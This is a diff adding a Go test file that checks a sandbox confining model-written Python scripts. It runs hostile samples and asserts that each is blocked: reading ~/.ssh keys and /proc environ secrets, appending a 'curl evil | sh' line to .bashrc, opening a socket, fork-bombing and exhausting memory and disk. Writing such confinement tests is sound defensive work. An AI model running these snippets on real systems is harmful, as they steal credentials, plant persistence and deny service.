@@ -1,0 +1,167 @@
+package sandbox
+
+import (
+	"bytes"
+	"context"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// python returns the real Python interpreter (not a shim that needs the
+// real HOME), or skips.
+func python(t *testing.T) string {
+	t.Helper()
+	out, err := exec.Command("python3", "-c", "import sys; print(sys.executable)").Output()
+	if err != nil {
+		t.Skip("no python3")
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// requireSandbox skips when the kernel cannot confine, failing instead when
+// LPPCTL_REQUIRE_SANDBOX is set (CI on a kernel that must have it).
+func requireSandbox(t *testing.T) {
+	t.Helper()
+	if err := Available(); err != nil {
+		if os.Getenv("LPPCTL_REQUIRE_SANDBOX") != "" {
+			t.Fatal(err)
+		}
+		t.Skip(err)
+	}
+}
+
+// hostile is a script the model could write, and what must come of it.
+type hostile struct {
+	name   string
+	script string // Python; argv[1] is the outside folder, argv[2] the test's pid, argv[3] a loopback port
+	want   string // in the script's stderr or stdout
+	code   int    // exit code
+}
+
+func TestSandboxConfinesHostileScripts(t *testing.T) {
+	requireSandbox(t)
+	py := python(t)
+
+	// A home and a project outside the sandbox, with secrets in them.
+	home := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(home, ".ssh"), 0o700))
+	require.NoError(t, os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("PRIVATE-KEY-BODY"), 0o600))
+	require.NoError(t, os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o644))
+	t.Setenv("HOME", home)
+	t.Setenv("OPENAI_API_KEY", "sk-parent-secret")
+
+	ln, err := net.Listen("tcp4", "127.0.0.1:0")
+	require.NoError(t, err)
+	defer ln.Close()
+	accepted := make(chan struct{}, 16)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted <- struct{}{}
+			c.Close()
+		}
+	}()
+	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
+
+	tests := []hostile{
+		{
+			name:   "writes outside its folder",
+			script: "import sys\nopen(sys.argv[1] + '/PWNED', 'w').write('x')\n",
+			want:   "PermissionError", code: 1,
+		},
+		{
+			name:   "appends to the real .bashrc",
+			script: "import sys\nopen(sys.argv[1] + '/.bashrc', 'a').write('curl evil | sh\\n')\n",
+			want:   "PermissionError", code: 1,
+		},
+		{
+			name:   "reads ~/.ssh",
+			script: "import sys\nprint(open(sys.argv[1] + '/.ssh/id_ed25519').read())\n",
+			want:   "PermissionError", code: 1,
+		},
+		{
+			name:   "reads its parent's environment",
+			script: "import os, sys\nfor p in (os.getppid(), int(sys.argv[2])):\n    try:\n        print(open('/proc/%d/environ' % p).read())\n    except OSError as e:\n        print('refused', p, type(e).__name__)\nprint('OPENAI' in ''.join(os.environ))\n",
+			want:   "refused", code: 0, // and False: no OPENAI_* reaches it
+		},
+		{
+			name:   "opens a socket",
+			script: "import socket, sys\ns = socket.create_connection(('127.0.0.1', int(sys.argv[3])), timeout=5)\nprint('connected')\n",
+			want:   "Error", code: 1,
+		},
+		{
+			name:   "fork-bombs",
+			script: "import os, sys, time\nn = 0\ntry:\n    while n < 100000:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n        n += 1\nexcept OSError as e:\n    print('fork refused after', n, e)\n    sys.exit(3)\n",
+			want:   "fork refused after 0", code: 3,
+		},
+		{
+			name:   "allocates 4 GiB",
+			script: "b = bytearray(4 << 30)\nprint(len(b))\n",
+			want:   "MemoryError", code: 1,
+		},
+		{
+			name:   "writes 1 GiB",
+			script: "chunk = b'x' * (1 << 20)\nwith open('big', 'wb') as f:\n    for i in range(1024):\n        f.write(chunk)\n        f.flush()\nprint('wrote 1 GiB')\n",
+			want:   "File too large", code: 1,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			require.NoError(t, os.WriteFile(filepath.Join(dir, "x.py"), []byte(tt.script), 0o644))
+			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+			defer cancel()
+			cmd, err := Command(ctx, Options{Dir: dir, Env: []string{"PATH=/usr/bin:/bin", "OPENAI_API_KEY=never-passed-by-callers"}, FileSize: 16 << 20}, py, "./x.py", home, strconv.Itoa(os.Getpid()), port)
+			require.NoError(t, err)
+			var stdout, stderr bytes.Buffer
+			cmd.Stdout, cmd.Stderr = &stdout, &stderr
+			_ = cmd.Run()
+			_ = KillGroup(cmd)
+			out := stdout.String() + stderr.String()
+			assert.Equal(t, tt.code, cmd.ProcessState.ExitCode(), out)
+			assert.Contains(t, out, tt.want)
+			assert.NotContains(t, out, "sk-parent-secret")
+			assert.NotContains(t, out, "PRIVATE-KEY-BODY")
+			assert.NotContains(t, out, "connected")
+			assert.NotContains(t, out, "True", "a credential-like variable reached the script")
+		})
+	}
+	// The home is as it was, and nothing connected.
+	rc, err := os.ReadFile(filepath.Join(home, ".bashrc"))
+	require.NoError(t, err)
+	assert.Equal(t, "# rc\n", string(rc))
+	_, err = os.Stat(filepath.Join(home, "PWNED"))
+	assert.True(t, os.IsNotExist(err))
+	assert.Len(t, accepted, 0)
+}
+
+// TestSandboxRunsAComputeUnit: an ordinary script reads stdin, writes its
+// folder and prints JSON; HOME and TMPDIR are its folder.
+func TestSandboxRunsAComputeUnit(t *testing.T) {
+	requireSandbox(t)
+	py := python(t)
+	dir := t.TempDir()
+	script := "import json, os, sys, tempfile\nd = json.load(sys.stdin)\nopen('out.txt', 'w').write('ok')\nwith tempfile.NamedTemporaryFile() as f: pass\nprint(json.dumps({'n': d['n'] + 1, 'home': os.environ['HOME'] == os.getcwd()}))\n"
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "x.py"), []byte(script), 0o644))
+	cmd, err := Command(context.Background(), Options{Dir: dir, Env: []string{"HOME=/root", "LANG=C.UTF-8"}}, py, "./x.py")
+	require.NoError(t, err)
+	cmd.Stdin = strings.NewReader(`{"n": 41}`)
+	out, err := cmd.CombinedOutput()
+	require.NoError(t, err, string(out))
+	assert.Equal(t, `{"n": 42, "home": true}`, strings.TrimSpace(string(out)))
+	b, err := os.ReadFile(filepath.Join(dir, "out.txt"))
+	require.NoError(t, err)
+	assert.Equal(t, "ok", string(b))
+}
